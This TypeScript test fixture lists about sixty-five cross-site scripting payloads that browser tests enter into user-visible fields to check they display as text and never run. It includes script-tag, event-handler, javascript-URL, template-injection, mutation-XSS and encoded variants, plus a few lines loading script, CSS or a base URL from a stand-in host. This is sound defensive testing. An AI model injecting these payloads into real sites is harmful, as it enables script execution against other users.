/**
 * Known cross-site scripting payloads. The browser tests put them wherever a person can type text
 * that someone else will see (messages, names, feedback, FAQ answers, article titles) and assert
 * that each one is shown as the text it is, and never runs. Every payload that would run calls
 * `alert(1)` or sets `window.__xss`, so a test can also watch for either.
 */
export const XSS_PAYLOADS: readonly string[] = [
  // Plain script tags, in the forms filters most often miss.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//xss.example/x.js></SCRIPT>',
  '<script>window.__xss=1</script>',
  '"><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  // Event handlers on elements that fire without a click.
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="window.__xss=1">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>',
  // Dangerous URLs, in links and frames.
  '<a href="javascript:alert(1)">click me</a>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<math><a xlink:href="javascript:alert(1)">click</a></math>',
  // Breaking out of an attribute or a string the text was put in.
  '" onmouseover="alert(1)" x="',
  "' onmouseover='alert(1)' x='",
  '" autofocus onfocus="alert(1)',
  "';alert(1);//",
  '\\";alert(1);//',
  '</style><script>alert(1)</script>',
  // Template syntax: harmless as text, dangerous if a template engine ever evaluates it.
  '${alert(1)}',
  '`${alert(1)}`',
  '{{constructor.constructor(\'alert(1)\')()}}',
  '{{7*7}}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  // Lit bindings: text that looks like a binding must stay text.
  '<div @click=${() => alert(1)}>x</div>',
  '<img .src=${"x"} onerror=alert(1)>',
  '<!--?lit$1234$-->',
  '?lit$0$',
  // Mutation XSS: markup a sanitizer sees as inert that the parser turns live.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  // Escaped and encoded variants.
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=alert(1)\\x3e',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '＜script＞alert(1)＜/script＞',
  // A JavaScript identifier escape: runs as alert(1) if the handler ever runs.
  '<img src=x onerror=\\u0061lert(1)>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '\u202e>tpircs/<)1(trela>tpircs<',
  // CSS and base-tag tricks that a strict CSP should also stop.
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<link rel=stylesheet href=//xss.example/x.css>',
  '<base href="//xss.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
];
